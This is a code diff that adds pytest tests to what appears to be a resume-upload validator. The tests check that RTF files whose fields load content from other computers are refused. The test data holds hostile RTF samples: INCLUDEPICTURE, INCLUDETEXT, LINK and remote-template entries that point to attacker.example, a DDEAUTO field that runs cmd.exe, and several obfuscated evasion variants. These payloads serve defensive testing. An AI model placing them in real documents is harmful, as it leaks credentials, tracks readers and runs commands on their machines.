@@ -412,3 +412,87 @@ def test_docx_relationships_with_an_entity_declaration():
         b'<Relationships xmlns="' + RELATIONSHIPS.encode() + b'">&x;</Relationships>'
     )
     assert refusal(build_docx({DOCUMENT_RELS: evil}), "resume.docx").code == "corrupt"
+
+
+# --- RTF ---------------------------------------------------------------------------------------
+
+
+def rtf(body: bytes) -> bytes:
+    return rb"{\rtf1\ansi\deff0{\fonttbl{\f0 Arial;}}\pard Jane Example\par " + body + rb"\par}"
+
+
+def rtf_field(instruction: bytes, result: bytes = b"x") -> bytes:
+    return rb"{\field{\*\fldinst " + instruction + rb"}{\fldrslt " + result + rb"}}"
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        rtf_field(rb'HYPERLINK "https://www.linkedin.com/in/jane/import"', b"LinkedIn"),
+        rtf_field(rb"PAGE \\* MERGEFORMAT", b"1"),
+        rtf_field(rb'{\rtlch\fcs1 \af0 \ltrch\fcs0  HYPERLINK "mailto:jane@example.com" }'),
+        rb"Skilled with Word's INCLUDEPICTURE, INCLUDETEXT and IMPORT fields.",
+        rb"{\*\template C:\\Users\\jane\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm}",
+        rb"Kept drawings in C:\\objects and D:\\objupdate folders.",
+    ],
+    ids=[
+        "hyperlink",
+        "page-number",
+        "word-style-hyperlink",
+        "words-in-text",
+        "local-template",
+        "escaped-backslash-then-obj",
+    ],
+)
+def test_rtf_with_links_and_ordinary_fields_is_accepted(body):
+    assert inspect(rtf(body), "resume.rtf").kind == "rtf"
+
+
+UNC_RTF = rb'"\\\\attacker.example\\share\\pixel.png"'  # RTF doubles each backslash
+
+REMOTE_RTF = {
+    "includepicture-http": rtf_field(rb'INCLUDEPICTURE "https://tracker.example/p.png" \\d'),
+    "includepicture-unc": rtf_field(rb"INCLUDEPICTURE " + UNC_RTF + rb" \\* MERGEFORMATINET"),
+    "includetext": rtf_field(rb'INCLUDETEXT "\\\\attacker.example\\share\\part.docx"'),
+    "import": rtf_field(rb"IMPORT " + UNC_RTF),
+    "lower-case": rtf_field(rb"includepicture " + UNC_RTF),
+    "leading-white-space": rtf_field(rb"   \tab  INCLUDEPICTURE " + UNC_RTF),
+    "split-by-groups": rtf_field(rb"{INCLUDE}{\b PICT}URE " + UNC_RTF),
+    "split-by-line-breaks": rtf_field(b"INCLU\r\nDEPIC\nTURE " + UNC_RTF),
+    "hex-escaped-letter": rtf_field(rb"\'49NCLUDEPICTURE " + UNC_RTF),
+    "unicode-escaped-letter": rtf_field(rb"\u73?NCLUDEPICTURE " + UNC_RTF),
+    "word-formatting": rtf_field(
+        rb"{\rtlch\fcs1 \af0 \ltrch\fcs0  INCLUDEPICTURE " + UNC_RTF + b"}"
+    ),
+    "hidden-destination-in-front": rtf_field(rb"{\*\bkmkstart x}INCLUDEPICTURE " + UNC_RTF),
+    "fldinst-without-star": rb"{\field{\fldinst INCLUDEPICTURE " + UNC_RTF + rb"}{\fldrslt x}}",
+    "upper-case-control-word": rb"{\field{\*\FLDINST INCLUDEPICTURE " + UNC_RTF + rb"}}",
+    "nested-field": rtf_field(rb'IF 1 = 1 "' + rtf_field(rb"INCLUDEPICTURE " + UNC_RTF) + b'"'),
+    "dde-auto": rtf_field(rb'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'),
+    "link": rtf_field(rb'LINK Excel.Sheet.12 "\\\\attacker.example\\share\\pay.xlsx" "" \\a'),
+    "remote-template-unc": rb"{\*\template \\\\attacker.example\\share\\cv.dotm}",
+    "remote-template-http": rb"{\*\template https://attacker.example/cv.dotm}",
+}
+
+
+@pytest.mark.parametrize("body", REMOTE_RTF.values(), ids=REMOTE_RTF.keys())
+def test_rtf_that_loads_content_from_other_computers(body):
+    rejected = refusal(rtf(body), "resume.rtf")
+    assert rejected.code == "remote_content"
+    assert "other computers" in rejected.message
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        rb"{\objupdate}",
+        rb"{\*\objdata 0105}",
+        rb"{\OBJECT\objautlink{\*\objclass Word.Document.8}}",
+        rb"{\objupdate\objemb{\*\objclass Package}}",
+    ],
+    ids=["objupdate", "objdata", "upper-case-object", "objupdate-objemb"],
+)
+def test_rtf_with_self_updating_or_embedded_objects(body):
+    rejected = refusal(rtf(body), "resume.rtf")
+    assert rejected.code == "active_content"
+    assert "embedded objects" in rejected.message
